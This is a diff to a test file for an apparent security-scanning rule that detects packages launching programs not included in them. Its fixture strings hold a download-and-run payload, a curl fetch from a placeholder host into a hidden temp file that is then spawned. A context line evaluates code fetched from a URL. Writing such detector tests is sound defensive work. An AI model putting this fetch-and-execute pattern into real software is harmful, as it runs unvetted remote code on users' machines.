@@ -810,3 +810,10 @@ test('messages of a broker or a mailbox run, and what a picture says that is loa
     'const { get } = require("./registry"); Function(get("https://schema.example/a"))()',
   ]) assert.notEqual(worst(code), 'critical', code);
 });
+
+test('a program whose name is only known in part is brought and started', () => {
+  const told = (command: string, program: string) => findingsOf(rule, { 'a.js': `const { execSync, spawn } = require('child_process'); const to = require('os').tmpdir() + '/.crc-' + process.pid; execSync(\`curl -fsSL https://dl.prebuilt.example/\${process.platform} -o \${${command}}\`); spawn(${program}, [])` }).some(({ message }) => message.includes('is started that is not in the package'));
+  assert.equal(told('to', 'to'), true);
+  assert.equal(told('to', "require('os').tmpdir() + '/tool-' + process.pid"), false);
+  assert.equal(told("'list.json'", 'to'), false);
+});
